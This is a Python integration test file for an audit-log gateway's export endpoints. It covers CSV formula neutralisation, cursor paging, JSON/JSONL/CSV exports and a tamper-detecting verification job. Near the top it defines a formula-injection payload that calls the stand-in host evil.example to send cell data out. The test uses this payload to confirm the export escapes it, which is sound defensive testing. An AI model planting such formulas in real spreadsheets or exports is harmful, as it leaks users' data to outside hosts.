"""The gateway's audit exports over a seeded audit database (SQLite and PostgreSQL),
read by a real HTTP client: CSV cells neutralised against formulas. No worker: the
rows are written through the audit append path directly."""

from __future__ import annotations

import csv
import io
import time

import httpx
import orjson
import pytest
from audit_fixtures import KEY, make_record
from gateway_procs import serve, stop
from sqlalchemy import text

from lorapool.audit_db import append_records
from lorapool.lifecycle.keys import Keys
from lorapool.records.audit import record_from_dict

pytest_plugins = ["audit_fixtures"]
pytestmark = pytest.mark.integration
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def audit_gateway(audit_target, redis_url, prefix, tmp_path):
    db = ["--audit-db-url", audit_target.url]
    db += ["--audit-db-schema", audit_target.schema] if audit_target.schema else []
    url, proc = serve(redis_url, prefix, tmp_path, *db)
    yield url, audit_target
    stop(proc)


def _csv(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text, newline="")))


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(audit_gateway):
    url, target = audit_gateway
    records = [
        make_record(i, text_for=lambda i, k: ("-2+3", "@SUM(A1)", "\tx", "ok")[i]) for i in range(4)
    ]
    records[0]["prompt"] = HOSTILE
    append_records(target.engine, [record_from_dict(r) for r in records], key=KEY)
    accept = {"Accept": "text/csv"}
    [row] = _csv(httpx.get(f"{url}/v1/audit/completions/req-0", headers=accept))
    assert (row["prompt"], row["text"]) == ("'" + HOSTILE, "'-2+3")
    assert row["cumulative_logprob"] == "-1.5"
    rows = _csv(httpx.get(f"{url}/v1/audit/completions", headers=accept))
    assert [r["text"] for r in rows] == ["'-2+3", "'@SUM(A1)", "'\tx", "ok"]
    exact = httpx.get(f"{url}/v1/audit/completions/req-0").json()["data"][0]
    assert exact["prompt"] == HOSTILE


def _seed(target, count: int = 250) -> list[int]:
    """Records whose arrival times come three at a time (ties for the cursor), some
    with two completions; returns every row's seq in arrival order."""
    records = [
        make_record(i, arrival=1_700_000_000.0 + i // 3, n=1 + (i % 5 == 0)) for i in range(count)
    ]
    append_records(target.engine, [record_from_dict(r) for r in records], key=KEY)
    with target.engine.connect() as conn:
        order = "ORDER BY arrival_time, seq"
        return [r[0] for r in conn.execute(text(f"SELECT seq FROM completions {order}"))]


def test_csv_and_json_pages_walk_every_row_by_cursor(audit_gateway):
    url, target = audit_gateway
    expected = _seed(target)
    for accept in ("text/csv", "application/json"):
        seen, link, pages = [], "/v1/audit/completions?limit=40&tenant=acme", 0
        while link:
            page = httpx.get(f"{url}{link}", headers={"Accept": accept})
            assert page.status_code == 200, page.text
            rows = _csv(page) if accept == "text/csv" else page.json()["data"]
            seen += [int(r["seq"]) for r in rows]
            next_link = page.headers.get("link")
            link = next_link[1 : next_link.index(">")] if next_link else None
            assert (page.headers.get("x-next-cursor") is None) == (link is None)
            pages += 1
        assert seen == expected and pages == -(-len(expected) // 40)
    bad = httpx.get(f"{url}/v1/audit/completions", params={"cursor": "not-a-cursor"})
    assert bad.status_code == 400 and bad.json()["error"]["param"] == "cursor"
    for route in ("completions", "export"):  # two characters, no window: refused at once
        refused = httpx.get(f"{url}/v1/audit/{route}", params={"q": "re"})
        assert refused.status_code == 400 and refused.json()["error"]["param"] == "q"
        assert "time window" in refused.json()["error"]["message"]


def test_exports_stream_every_row_in_each_format(audit_gateway):
    url, target = audit_gateway
    expected = _seed(target, 120)
    got = {}
    for fmt in ("jsonl", "json", "csv"):
        response = httpx.get(f"{url}/v1/audit/export", params={"format": fmt}, timeout=60)
        assert (
            response.status_code == 200 and "attachment" in response.headers["content-disposition"]
        )
        if fmt == "jsonl":
            got[fmt] = [orjson.loads(line) for line in response.content.splitlines()]
        elif fmt == "json":
            got[fmt] = response.json()
        else:
            got[fmt] = _csv(response)
        assert [int(r["seq"]) for r in got[fmt]] == expected
    assert got["jsonl"] == got["json"]
    assert got["jsonl"][0]["token_ids"] == [0, 0, 7]
    refused = httpx.get(f"{url}/v1/audit/export", params={"format": "xml"})
    assert refused.status_code == 400 and refused.json()["error"]["param"] == "format"


def _until_done(url: str, job_id: str) -> dict:
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        job = httpx.get(f"{url}/v1/audit/verify/{job_id}").json()
        if job["status"] in ("succeeded", "failed"):
            return job
        time.sleep(0.1)
    raise AssertionError(f"verification {job_id} did not finish")


def _lose(conn, prefix, job: dict, target, at: int) -> None:
    """Make ``job`` look like a full job whose gateway stopped at row ``at``."""
    with target.engine.connect() as db:
        row_hash = db.execute(text(f"SELECT row_hash FROM completions WHERE seq = {at}")).scalar()
    job = {k: v for k, v in job.items() if k not in ("object", "ok")}
    stale = {**job, "id": "lost-one", "status": "running", "ok": None, "finished_at": None}
    stale.update(updated_at=time.time() - 120, position=at, position_hash=row_hash)
    key = Keys(prefix).audit_verify
    conn.hset(key, mapping={"lost-one": orjson.dumps(stale), "latest:full": "lost-one"})


def test_verify_is_a_job_that_reports_its_progress(audit_gateway, conn, prefix):
    url, target = audit_gateway
    _seed(target, 60)
    started = httpx.post(f"{url}/v1/audit/verify", params={"mode": "full"})
    assert started.status_code in (200, 202), started.text
    job = _until_done(url, started.json()["id"])
    assert started.headers["location"] == f"/v1/audit/verify/{job['id']}"
    assert (job["status"], job["ok"], job["rows_walked"], job["head_seq"]) == (
        "succeeded", True, 72, 72,
    )  # fmt: skip
    assert job["verified_checkpoint"] == 1
    waited = httpx.get(f"{url}/v1/audit/verify", params={"wait": 30}, timeout=40)
    assert waited.status_code == 200 and waited.json()["mode"] == "incremental"
    assert waited.json()["since_checkpoint"] == 1 and waited.json()["rows_walked"] == 0
    _lose(conn, prefix, job, target, at=30)  # its gateway stopped at row 30
    resumed = _until_done(
        url, httpx.post(f"{url}/v1/audit/verify", params={"mode": "full"}).json()["id"]
    )
    assert (resumed["resumed_from"], resumed["rows_walked"], resumed["ok"]) == (30, 42, True)
    with target.engine.begin() as conn:  # as the owner: one row changed
        if target.kind == "postgresql":
            conn.execute(text("ALTER TABLE completions DISABLE TRIGGER USER"))
        else:
            conn.execute(text("DROP TRIGGER completions_no_update"))
        conn.execute(text("UPDATE completions SET text = 'forged' WHERE seq = 70"))
    failed = _until_done(
        url, httpx.post(f"{url}/v1/audit/verify", params={"mode": "full"}).json()["id"]
    )
    assert failed["ok"] is False and "seq=70" in failed["failure"]
    assert httpx.get(f"{url}/v1/audit/verify/{failed['id']}").status_code == 409
    assert httpx.get(f"{url}/v1/audit/verify/nope").status_code == 404
    assert httpx.post(f"{url}/v1/audit/verify", params={"mode": "all"}).status_code == 400
